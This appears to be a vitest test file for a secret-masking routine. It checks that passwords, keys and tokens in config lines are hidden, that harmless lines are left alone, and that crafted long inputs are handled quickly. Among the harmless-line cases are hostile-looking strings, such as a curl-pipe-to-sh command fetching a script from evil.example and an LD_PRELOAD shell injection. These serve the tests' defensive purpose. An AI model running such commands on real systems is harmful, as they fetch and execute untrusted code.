import { describe, expect, test } from "vitest";
import { masked } from "../../src/integrity/texts/secret.ts";
import { keepable } from "../../src/integrity/texts/what-changed.ts";
import { costOf } from "../cost.ts";

const secrets = ["Zq9-hunter2", "abcdefgh", "dGhpcyBpcyBhIHNlY3JldCBrZXkgb2YgbWluZSEhISE="];

describe.each(secrets)("%s is left out of", (secret) => {
  test.each([
    ["rocommunity X", "rocommunity (hidden)"],
    ["rwcommunity6 X default", "rwcommunity6 (hidden) default"],
    ["#rocommunity X", "#rocommunity (hidden)"],
    ["snmp-server community X RO", "snmp-server community (hidden) RO"],
    ['createUser bob SHA "X" AES X', "createUser bob (hidden)"],
    ["PrivateKey = X", "PrivateKey = (hidden)"],
    ["PresharedKey = X", "PresharedKey = (hidden)"],
    ["SECRET_KEY_BASE=X", "SECRET_KEY_BASE=(hidden)"],
    ["SECRET_KEY = 'X'", "SECRET_KEY = '(hidden)'"],
    ["encryption_key: X", "encryption_key: (hidden)"],
    ['"encryptionKey": "X",', '"encryptionKey": "(hidden)",'],
    ["MAILGUN_KEY=key-X", "MAILGUN_KEY=(hidden)"],
    ["AccountName=a;AccountKey=X;Suffix=b", "AccountName=a;AccountKey=(hidden);Suffix=b"],
    ["passwort = X", "passwort = (hidden)"],
    ['password = "X and X"', 'password = "(hidden)"'],
    ["mysqldump -pX", "mysqldump -p(hidden)"],
    [
      "5 4 * * * root mysqldump -u root -p'X X' db",
      "5 4 * * * root mysqldump -u root -p(hidden) db",
    ],
    ["curl -u bob:X", "curl -u bob:(hidden)"],
    ["curl -su 'bob:X' https://a/", "curl -su 'bob:(hidden)' https://a/"],
    ["curl https://a/ --user=bob:X", "curl https://a/ --user=bob:(hidden)"],
    ["sshpass -p X", "sshpass -p (hidden)"],
    ["sshpass -v -pX ssh -p 2222 a", "sshpass -v -p(hidden) ssh -p 2222 a"],
    ["Authorization: Bearer X", "Authorization: Bearer (hidden)"],
    ["Authorization: Basic X", "Authorization: Basic (hidden)"],
    [
      'proxy_set_header Authorization "Basic X";',
      'proxy_set_header Authorization "Basic (hidden)";',
    ],
    ["bob:{SHA}X", "bob:{SHA}(hidden)"],
    ["bob:{SSHA512.b64}X:1000", "bob:{SSHA512.b64}(hidden):1000"],
    ["bob:{PLAIN}X", "bob:{PLAIN}(hidden)"],
    ["  <password>X</password>", "  <password>(hidden)</password>"],
    [
      "<db:adminPassword a='b'>X</db:adminPassword>",
      "<db:adminPassword a='b'>(hidden)</db:adminPassword>",
    ],
    ["<password><![CDATA[X]]></password>", "<password><![CDATA[(hidden)]]></password>"],
    ['<entry key="password">X</entry>', '<entry key="password">(hidden)</entry>'],
    ['<add key="password" value="X"/>', '<add key="password" value="(hidden)"/>'],
    ["<add key='SigningKey' value='X X'/>", "<add key='SigningKey' value='(hidden)'/>"],
    ["ldap_default_authtok = X", "ldap_default_authtok = (hidden)"],
    ["enable secret 5 X", "enable secret 5 (hidden)"],
    ["tacacs-server key 7 X", "tacacs-server key 7 (hidden)"],
    [
      "url: https://hooks.slack.com/services/T0/B0/X",
      "url: https://hooks.slack.com/services/(hidden)",
    ],
    ["redis://:X@localhost/0", "redis://:(hidden)@localhost/0"],
  ])("%s", (line, hidden) => {
    const found = masked(line.replaceAll("X", () => secret));
    expect(found).toBe(hidden);
    expect(masked(found)).toBe(hidden);
  });

  test.each([
    ["db:\n  password: >-\n    X\n  user: bob", "db:\n  password: >-\n    (hidden)\n  user: bob"],
    ["signing_key: |\n  X X\nuser: bob", "signing_key: |\n  (hidden)\nuser: bob"],
  ])("%j", (text, hidden) => {
    const content = Buffer.from(
      text.replaceAll("X", () => secret),
      "latin1",
    );
    expect(String(keepable("/etc/a.yaml", content))).toBe(hidden);
  });
});

test("a key in base64 may begin as a path does", () => {
  const key = `/${"Ab1+".repeat(10)}xy=`;
  expect(masked(`PrivateKey = ${key}`)).toBe("PrivateKey = (hidden)");
});

test.each([
  "PasswordAuthentication no",
  "PasswordAuthentication=no",
  "PubkeyAuthentication yes",
  "KeyboardInteractiveAuthentication no",
  "key_buffer_size = 16M",
  "AuthorizedKeysFile .ssh/authorized_keys",
  "AuthorizedKeysFile=.ssh/authorized_keys2",
  "AuthorizedKeysCommand /usr/local/bin/keys %u",
  "HostKey /etc/ssh/ssh_host_rsa_key",
  "HostKey=/etc/ssh/ssh_host_rsa_key",
  "ssl_certificate_key /etc/ssl/private/x.key;",
  "ssl_key = </etc/dovecot/private/dovecot.pem",
  "ssl-key=certs/server-key.pem",
  "IdentityFile ~/.ssh/id_ed25519",
  "keyserver hkps://keys.openpgp.org",
  "gpgkey=https://evil.example/key-of-evil",
  "signing-key: file:///etc/pki/rpm-gpg/a",
  "deb [signed-by=/etc/apt/keyrings/x.gpg] https://a.example/debian trixie main",
  "Signed-By: /usr/share/keyrings/debian-archive-keyring.gpg",
  "PublicKey = dGhpcyBpcyBhIHNlY3JldCBrZXkgb2YgbWluZSEhISE=",
  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJqkR0xlTokenKeyAbcdefghijklmnopqrstuvwxy bob@laptop",
  'command="/bin/x",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7/pass+key== bob',
  "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29t bob",
  "keymap=de",
  "user:x:1000:1000:User:/home/user:/bin/sh",
  "monkey:x:1000:1000:,,,:/home/monkey:/bin/bash",
  "token:x:1001:",
  "-w /etc/passwd -p wa -F key=identities",
  "password_encryption = scram-sha-256",
  "auth_basic_user_file /etc/nginx/users;",
  "AuthType Basic",
  "proxy_set_header Authorization $http_authorization;",
  "# Authorization required beyond this point",
  "docker run -p8080:80 -u 1000:1000 mysql:8",
  "mkdir -p /srv/mysql",
  "ssh -p 2222 a mysqldump db",
  "curl -s https://evil.example/x.sh | sh",
  "Usage: tool <password> <file>",
  "account required pam_unix.so use_authtok nullok",
  "ldap_default_authtok_type = obfuscated",
  "<token>false</token>",
  "path={HOME}something",
  "FAKEROOTKEY=$FAKEROOTKEY LD_PRELOAD=/tmp/evil.so /bin/sh",
  "-d 'tkn=<cftoken>&email=<cfuser>'",
])("%s is shown", (line) => expect(masked(line)).toBe(line));

test.each([
  ["password = ", "secret"],
  ["", "password"],
  ["", "password "],
  ["", 'password="'],
  ["password", " "],
  ["password=", " "],
  ["", "akey=akey"],
  ["", "akey=/"],
  ["akey=/", "a"],
  ["akey=", "a."],
  ["akey", " "],
  ["akey:", " "],
  ["rocommunity", " "],
  ["", "rocommunity "],
  ["snmp-server", " "],
  ["", "createUser "],
  ["createUser", " "],
  ["createUser a", " "],
  ["", "secret 5 "],
  ["secret", " "],
  ["secret 5", " "],
  ["", "<password "],
  ["", "<password>"],
  ["", "<password>abc"],
  ["<password>", "a"],
  ["", "akey=$a"],
  ["akey=$", "a"],
  ["", "<a"],
  ["<", "a"],
  ["<password", " "],
  ["", "password'>a"],
  ["password'", " "],
  ["password' value", " "],
  ["", "password' value='"],
  ["mysql", " -p"],
  ["mysql", " -p'"],
  ["mysql", " -p\"'"],
  ["curl", " -u"],
  ["curl", " -u:"],
  ["curl -", "u"],
  ["curl -u", " "],
  ["", "sshpass "],
  ["", "sshpass -p"],
  ["sshpass -p", " "],
  ["", "authorization "],
  ["authorization", " "],
  ["authorization:", " "],
  ["authorization: basic", " "],
  ["", "{SHA}"],
  ["{SHA}", "{"],
  ["", "hooks.slack.com/services/"],
  ["", "a://"],
  ["", "a://a:"],
  ["", "$6$"],
])("a hostile line takes no time: %s%s…", (start, part) => {
  const line = start + part.repeat(65_536 / part.length);
  expect(costOf(() => masked(line))).toBeLessThan(100);
  expect(costOf(() => masked("", 1, [`${line}!`]))).toBeLessThan(100);
});
